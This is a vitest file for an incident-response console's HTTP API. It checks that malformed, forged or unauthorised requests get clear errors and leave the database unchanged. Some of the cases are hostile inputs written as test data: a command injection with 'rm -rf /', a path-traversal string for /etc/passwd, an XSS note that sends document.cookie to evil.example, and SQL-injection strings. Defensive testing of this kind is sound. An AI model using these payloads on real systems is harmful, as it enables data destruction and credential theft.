import { DateTime } from "luxon";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createApiToken } from "../../lib/auth/tokens/create-api-token";
import { db } from "../../lib/db";
import type { IncidentView, StepView } from "../../lib/incidents/incident-view";
import { apiClient, expectOk, type ApiResponse } from "./support/api-client";
import { changesSince, snapshotDatabase } from "./support/database-snapshot";
import { openIncident, stepAction, waitForStep } from "./support/drill-driver";
import { proofsEnabled, testDatabases } from "./support/proof-env";
import { startFileProofStack, PROOF_STACK_TIMEOUT_MS, type PersonKey, type ProofStack } from "./support/proof-stack";

/**
 * Issue 9, item 4. Bad input through the production console's HTTP API, each case answered with a clear error
 * (a 4xx problem+json whose detail says what is wrong) and no change in the database: every table of the console's
 * schema is fingerprinted before and after each case, and the only audit rows a case may add are the records of a
 * refusal (`outcome: refused`) and of an API token's use (`token.used`, written for every request that may change
 * something: the trail shows who tried).
 */

interface Case {
  name: string;
  /** Who sends it: a person's token, a raw Authorization header, or nobody. */
  as: PersonKey | { authorization: string } | "nobody";
  method?: "GET" | "POST";
  path: () => string;
  /** An object (sent as JSON) or a raw body string. */
  body?: unknown | { raw: string; contentType?: string };
  status: number;
  /** The words that make the error clear to the person who sent it. */
  says: RegExp;
}

let stack: ProofStack;
const ids = { test: "", fresh: "", production: "", expiredToken: "", revokedToken: "", approvedHash: "", awaitingHash: "" };
const LIVE_TEST = "s189t01-aytq-ts-pg";
const longText = (n: number) => "x".repeat(n);
const utcAgo = (o: { minutes?: number; days?: number }) => DateTime.utc().minus(o).toISO();

const ptr = (restorePoint: unknown, newServer?: string) => ({ action: "start", inputs: { restorePoint, ...(newServer ? { newServer } : {}) } });
const T = () => `/api/v1/incidents/${ids.test}`;
const P = () => `/api/v1/incidents/${ids.production}`;
const F = () => `/api/v1/incidents/${ids.fresh}`;
const step = (incident: () => string, stepId: string) => () => `${incident()}/steps/${stepId}/actions`;

const cases: Case[] = [
  // Restore points.
  { name: "restore point in the future", as: "lead", path: step(T, "restore-point-in-time"), body: ptr({ time: DateTime.utc().plus({ hours: 2 }).toISO(), zone: "utc" }), status: 422, says: /future|too recent|at least 5 minutes/i },
  { name: "restore point 2 minutes ago (PTR needs 5)", as: "lead", path: step(T, "restore-point-in-time"), body: ptr({ time: utcAgo({ minutes: 2 }), zone: "utc" }), status: 422, says: /5 minutes|too recent/i },
  { name: "restore point 8 days ago (retention is 7)", as: "lead", path: step(T, "restore-point-in-time"), body: ptr({ time: utcAgo({ days: 8 }), zone: "utc" }), status: 422, says: /7 days|retention|too old|earliest/i },
  { name: "UK time that does not exist (spring forward)", as: "lead", path: step(T, "restore-point-in-time"), body: ptr({ time: "2026-03-29T01:30", zone: "uk" }), status: 422, says: /does not exist|not exist|gap|clocks/i },
  { name: "UK time that happens twice (fall back)", as: "lead", path: step(T, "restore-point-in-time"), body: ptr({ time: "2026-10-25T01:30", zone: "uk" }), status: 422, says: /twice|ambiguous|both/i },
  { name: "restore point without a clock", as: "lead", path: step(T, "restore-point-in-time"), body: ptr(DateTime.utc().minus({ hours: 1 }).toFormat("yyyy-MM-dd'T'HH:mm")), status: 422, says: /UK time or UTC/i },
  { name: "restore point in words", as: "lead", path: step(T, "restore-point-in-time"), body: ptr({ time: "yesterday at 7", zone: "uk" }), status: 422, says: /Restore point/i },
  { name: "restore point with month 13", as: "lead", path: step(T, "restore-point-in-time"), body: ptr({ time: "2026-13-01T07:00", zone: "utc" }), status: 422, says: /Restore point/i },
  { name: "restore point on an unknown clock", as: "lead", path: step(T, "restore-point-in-time"), body: ptr({ time: "2026-07-24T07:00", zone: "pst" }), status: 422, says: /zone|uk|utc/i },
  { name: "restore point as a number", as: "lead", path: step(T, "restore-point-in-time"), body: ptr(1_785_000_000), status: 422, says: /Restore point/i },
  { name: "restore point missing", as: "lead", path: step(T, "restore-point-in-time"), body: { action: "start", inputs: {} }, status: 422, says: /Restore point/i },
  // Server names.
  { name: "copy named after the production server (another environment)", as: "lead", path: step(T, "restore-point-in-time"), body: ptr({ time: utcAgo({ minutes: 30 }), zone: "utc" }, "s189p01-aytq-pd-pg-ptr"), status: 422, says: new RegExp(`start with ${LIVE_TEST}-`) },
  { name: "copy named as the live server itself", as: "lead", path: step(T, "restore-point-in-time"), body: ptr({ time: utcAgo({ minutes: 30 }), zone: "utc" }, LIVE_TEST), status: 422, says: new RegExp(`start with ${LIVE_TEST}-`) },
  { name: "copy name with shell characters", as: "lead", path: step(T, "restore-point-in-time"), body: ptr({ time: utcAgo({ minutes: 30 }), zone: "utc" }, `${LIVE_TEST}-x;rm -rf /`), status: 422, says: /lower-case letters, digits and hyphens/ },
  { name: "copy name longer than Azure allows", as: "lead", path: step(T, "restore-point-in-time"), body: ptr({ time: utcAgo({ minutes: 30 }), zone: "utc" }, `${LIVE_TEST}-${"a".repeat(60)}`), status: 422, says: /3 to 63/ },
  { name: "backup name with a path", as: "lead", path: step(T, "backup-flawed-database"), body: { action: "start", inputs: { backupFile: "../../etc/passwd" } }, status: 422, says: /letters, digits, dots, hyphens and underscores/ },
  { name: "freeze with 99 required approvals (GitHub allows 6)", as: "lead", path: step(F, "freeze-pipeline"), body: { action: "start", inputs: { count: 99 } }, status: 422, says: /6/ },
  { name: "freeze with a negative count", as: "lead", path: step(F, "freeze-pipeline"), body: { action: "start", inputs: { count: -1 } }, status: 422, says: /0/ },
  // Production without confirmation.
  { name: "production change without typed confirmation", as: "lead", path: step(P, "restore-point-in-time"), body: ptr({ time: utcAgo({ minutes: 30 }), zone: "utc" }, "s189p01-aytq-pd-pg-ptr2"), status: 422, says: /type "production" to confirm/ },
  { name: "production change confirmed with the wrong word", as: "lead", path: step(P, "restore-point-in-time"), body: { ...ptr({ time: utcAgo({ minutes: 30 }), zone: "utc" }, "s189p01-aytq-pd-pg-ptr2"), confirmation: "yes" }, status: 422, says: /type "production" to confirm/ },
  { name: "production change confirmed with the test environment's name", as: "lead", path: step(P, "restore-point-in-time"), body: { ...ptr({ time: utcAgo({ minutes: 30 }), zone: "utc" }, "s189p01-aytq-pd-pg-ptr2"), confirmation: "test" }, status: 422, says: /type "production" to confirm/ },
  // Notes.
  { name: "note longer than 4,000 characters", as: "responder", path: () => `${T()}/actions`, body: { action: "note", text: longText(4001) }, status: 422, says: /4000|too long|too big/i },
  { name: "note of spaces only", as: "responder", path: () => `${T()}/actions`, body: { action: "note", text: "   \n\t " }, status: 422, says: /empty/i },
  { name: "note with a script", as: "responder", path: () => `${T()}/actions`, body: { action: "note", text: 'Checked the copy <script>fetch("https://evil.example/?c="+document.cookie)</script>' }, status: 422, says: /script|markup|HTML/i },
  { name: "note with an event-handler attribute", as: "responder", path: () => `${T()}/actions`, body: { action: "note", text: 'See <img src=x onerror="alert(1)">' }, status: 422, says: /script|markup|HTML/i },
  { name: "note with a NUL byte", as: "responder", path: () => `${T()}/actions`, body: { action: "note", text: "before\u0000after" }, status: 422, says: /character|control|NUL/i },
  { name: "note on a step that does not exist", as: "responder", path: () => `${T()}/actions`, body: { action: "note", text: "About nothing.", stepId: "drop-everything" }, status: 404, says: /step/i },
  { name: "skip reason with a NUL byte", as: "lead", path: step(T, "backup-flawed-database"), body: { action: "skip", reason: "no\u0000time" }, status: 422, says: /NUL/ },
  { name: "close reason with a NUL byte", as: "lead", path: () => `${T()}/actions`, body: { action: "close", status: "abandoned", reason: "done\u0000" }, status: 422, says: /NUL/ },
  { name: "skip reason longer than allowed", as: "lead", path: step(T, "backup-flawed-database"), body: { action: "skip", reason: longText(2001) }, status: 422, says: /2000|too long|too big/i },
  // Forged step and incident ids.
  { name: "a step id that is not in the scenario", as: "lead", path: step(T, "delete-production"), body: { action: "start" }, status: 404, says: /step/i },
  { name: "a step of the other scenario", as: "lead", path: step(T, "revive-server"), body: { action: "start" }, status: 404, says: /step/i },
  { name: "a step id with a path in it", as: "lead", path: () => `${T()}/steps/..%2F..%2Faudit/actions`, body: { action: "start" }, status: 404, says: /step|not found/i },
  { name: "an incident id that is not a uuid", as: "lead", path: () => "/api/v1/incidents/1%20or%201=1/steps/stop-service/actions", body: { action: "start" }, status: 404, says: /incident|not found/i },
  { name: "an incident that does not exist", as: "lead", path: () => "/api/v1/incidents/00000000-0000-4000-8000-000000000000/steps/stop-service/actions", body: { action: "start" }, status: 404, says: /incident/i },
  { name: "a step that is not ready yet", as: "lead", path: step(T, "restore-into-live"), body: { action: "start", inputs: { backupFile: "aytq_ts_ptr_2026-11-26T0900.sql.gz" } }, status: 409, says: /ready|waiting|after/i },
  { name: "a step that already succeeded, started again", as: "lead", path: step(T, "stop-service"), body: { action: "start" }, status: 409, says: /succeeded|already|done/i },
  { name: "skipping a step that is not optional", as: "lead", path: step(T, "freeze-pipeline"), body: { action: "skip", reason: "No time." }, status: 409, says: /optional|cannot be skipped|succeeded/i },
  // Tampered or malformed bodies.
  { name: "an extra field naming someone else as the actor", as: "responder", path: () => `${T()}/actions`, body: { action: "note", text: "Hello", actor: { id: "x", name: "Ada Admin", role: "admin" } }, status: 422, says: /actor|unrecognized|not valid/i },
  { name: "an unknown action", as: "lead", path: step(T, "restore-point-in-time"), body: { action: "force" }, status: 422, says: /action: one of/ },
  { name: "a body that is not JSON", as: "lead", path: step(T, "restore-point-in-time"), body: { raw: "action=start&restorePoint=now" }, status: 422, says: /not valid JSON/ },
  { name: "a JSON array for a body", as: "lead", path: step(T, "restore-point-in-time"), body: { raw: "[1,2,3]" }, status: 422, says: /not valid|expected/i },
  { name: "a body over 64 KB", as: "responder", path: () => `${T()}/actions`, body: { raw: JSON.stringify({ action: "note", text: longText(70_000) }) }, status: 422, says: /too large/ },
  { name: "closing with a status that does not exist", as: "lead", path: () => `${T()}/actions`, body: { action: "close", status: "deleted" }, status: 422, says: /status|resolved|abandoned/i },
  { name: "choosing an option the scenario does not have", as: "lead", path: () => `${T()}/actions`, body: { action: "choose-branch", branch: "option-9", reason: "Because." }, status: 422, says: /option|branch/i },
  { name: "opening an incident of an unknown scenario", as: "lead", path: () => "/api/v1/incidents", body: { scenario: "loss-of-everything", environment: "test", mode: "drill" }, status: 422, says: /scenario/i },
  { name: "opening an incident in an unknown environment", as: "lead", path: () => "/api/v1/incidents", body: { scenario: "loss-of-data", environment: "staging", mode: "drill" }, status: 422, says: /environment/i },
  { name: "opening an incident detected in the future", as: "lead", path: () => "/api/v1/incidents", body: { scenario: "loss-of-data", environment: "test", mode: "drill", detectedAt: { time: DateTime.utc().plus({ days: 1 }).toISO(), zone: "utc" } }, status: 422, says: /future/i },
  // Approvals.
  { name: "a replayed approval (the request was already approved)", as: "secondLead", path: step(P, "stop-service"), body: () => ({ action: "approve", inputsHash: ids.approvedHash }), status: 409, says: /approv|not waiting|succeeded/i },
  { name: "approving one's own request", as: "lead", path: step(P, "restore-point-in-time"), body: () => ({ action: "approve", inputsHash: ids.awaitingHash }), status: 403, says: /own|another|second/i },
  { name: "a responder approving a production change", as: "responder", path: step(P, "restore-point-in-time"), body: () => ({ action: "approve", inputsHash: ids.awaitingHash }), status: 403, says: /lead/i },
  { name: "approving inputs other than the ones requested", as: "secondLead", path: step(P, "restore-point-in-time"), body: { action: "approve", inputsHash: "0".repeat(64) }, status: 409, says: /inputs|changed|different/i },
  { name: "an approval hash that is not a sha256", as: "secondLead", path: step(P, "restore-point-in-time"), body: { action: "approve", inputsHash: "' or 1=1 --" }, status: 422, says: /sha256/ },
  // API tokens.
  { name: "no token", as: "nobody", path: () => "/api/v1/incidents", body: { scenario: "loss-of-data", environment: "test", mode: "drill" }, status: 401, says: /token|sign in/i },
  { name: "a wrong token", as: { authorization: "Bearer drc_0000000000000000000000000000000000000000000" }, path: () => "/api/v1/incidents", body: { scenario: "loss-of-data", environment: "test", mode: "drill" }, status: 401, says: /refused/i },
  { name: "a token that is not the console's", as: { authorization: "Bearer ghp_abcdefghijklmnopqrstuvwxyz0123456789" }, path: () => "/api/v1/incidents", body: { scenario: "loss-of-data", environment: "test", mode: "drill" }, status: 401, says: /refused/i },
  { name: "Authorization without Bearer", as: { authorization: "Token abc" }, path: () => "/api/v1/incidents", body: { scenario: "loss-of-data", environment: "test", mode: "drill" }, status: 401, says: /Bearer/ },
  { name: "an expired token", as: { authorization: "expired" }, path: () => `${T()}/actions`, body: { action: "note", text: "Still here?" }, status: 401, says: /expired/i },
  { name: "a revoked token", as: { authorization: "revoked" }, path: () => `${T()}/actions`, body: { action: "note", text: "Still here?" }, status: 401, says: /revoked/i },
  { name: "a viewer starting a step", as: "viewer", path: step(T, "restore-point-in-time"), body: ptr({ time: utcAgo({ minutes: 30 }), zone: "utc" }), status: 403, says: /viewer|not allowed|cannot|role/i },
  { name: "a responder opening an incident", as: "responder", path: () => "/api/v1/incidents", body: { scenario: "loss-of-data", environment: "test", mode: "drill" }, status: 403, says: /lead|not allowed|role/i },
];

async function send(c: Case): Promise<ApiResponse<{ title?: string; detail?: string }>> {
  const tokens = { expired: ids.expiredToken, revoked: ids.revokedToken } as Record<string, string>;
  let headers: Record<string, string> = {};
  let token: string | undefined;
  if (typeof c.as === "string" && c.as !== "nobody") token = stack.people[c.as].token;
  else if (typeof c.as === "object") headers = { authorization: tokens[c.as.authorization] ? `Bearer ${tokens[c.as.authorization]}` : c.as.authorization };
  const client = apiClient({ baseUrl: stack.consoles[0]!.url, token });
  const body = typeof c.body === "function" ? (c.body as () => unknown)() : c.body;
  const raw = body && typeof body === "object" && "raw" in body ? (body as { raw: string }).raw : JSON.stringify(body);
  return client.raw(c.path(), { method: c.method ?? "POST", headers: { "content-type": "application/json", ...headers }, body: raw });
}

describe.runIf(proofsEnabled())("bad input through the HTTP API: a clear error, nothing changed", () => {
  beforeAll(async () => {
    stack = await startFileProofStack();
    const lead = stack.api("lead");
    // A drill in test whose restore step is ready.
    ids.test = (await openIncident(lead, { scenario: "loss-of-data", environment: "test", mode: "drill" })).id;
    for (const stepId of ["stop-service", "freeze-pipeline"]) {
      await stepAction(lead, ids.test, stepId, { action: "start" });
      expect((await waitForStep({ api: lead, incidentId: ids.test, stepId })).state).toBe("succeeded");
    }
    // A drill where nothing has been done yet.
    ids.fresh = (await openIncident(lead, { scenario: "loss-of-data", environment: "test", mode: "drill" })).id;
    // A production incident: the stop approved by a second lead and done; the restore requested and awaiting approval.
    const production = await openIncident(lead, { scenario: "loss-of-data", environment: "production", mode: "incident" });
    ids.production = production.id;
    await stepAction(lead, ids.production, "stop-service", { action: "start", confirmation: "production" });
    let stop: StepView = await waitForStep({ api: lead, incidentId: ids.production, stepId: "stop-service", states: ["awaiting_approval"] });
    ids.approvedHash = stop.approval!.inputsHash;
    await stepAction(stack.api("secondLead"), ids.production, "stop-service", { action: "approve", inputsHash: ids.approvedHash });
    stop = await waitForStep({ api: lead, incidentId: ids.production, stepId: "stop-service" });
    expect(stop.state).toBe("succeeded");
    await stepAction(lead, ids.production, "freeze-pipeline", { action: "start" });
    expect((await waitForStep({ api: lead, incidentId: ids.production, stepId: "freeze-pipeline" })).state).toBe("succeeded");
    await stepAction(lead, ids.production, "restore-point-in-time", { action: "start", confirmation: "production", inputs: { restorePoint: { time: utcAgo({ minutes: 30 }), zone: "utc" } } });
    ids.awaitingHash = (await waitForStep({ api: lead, incidentId: ids.production, stepId: "restore-point-in-time", states: ["awaiting_approval"] })).approval!.inputsHash;
    // Tokens that no longer work.
    const responder = { id: stack.people.responder.id, name: stack.people.responder.name, role: "responder" as const };
    const expired = await createApiToken({ actor: responder, input: { name: "expired", expiresInDays: 1 } });
    await db().apiToken.update({ where: { id: expired.id }, data: { expiresAt: new Date(Date.now() - 60_000) } });
    const revoked = await createApiToken({ actor: responder, input: { name: "revoked", expiresInDays: 1 } });
    await db().apiToken.update({ where: { id: revoked.id }, data: { revokedAt: new Date(), revokedById: responder.id, revokedByName: responder.name } });
    ids.expiredToken = expired.token;
    ids.revokedToken = revoked.token;
    // Nothing may still be moving when the cases start: every operation has ended.
    const view = expectOk(await lead.get<IncidentView>(P()), "reading the production incident");
    expect(view.steps.filter((s) => s.state === "running")).toEqual([]);
  }, PROOF_STACK_TIMEOUT_MS);
  afterAll(() => stack?.stop());

  it(`has at least 40 cases (${cases.length})`, () => {
    expect(cases.length).toBeGreaterThanOrEqual(40);
  });

  it.each(cases)("$name: $status", async (c) => {
    const { databaseUrl } = testDatabases();
    const before = await snapshotDatabase(databaseUrl);
    const response = await send(c);
    const changes = await changesSince(databaseUrl, before);
    expect({ status: response.status, detail: response.body?.detail }).toMatchObject({ status: c.status });
    expect(response.headers.get("content-type")).toMatch(/application\/problem\+json/);
    expect(response.body?.detail ?? "", "a clear message").toMatch(c.says);
    console.info(`${c.name}: ${response.status} ${response.body?.detail}`);
    expect(changes.tables, "tables changed").toEqual([]);
    const unexpected = changes.audit.filter((a) => a.outcome !== "refused" && a.action !== "token.used");
    expect(unexpected, "audit rows other than refusals").toEqual([]);
  });
});
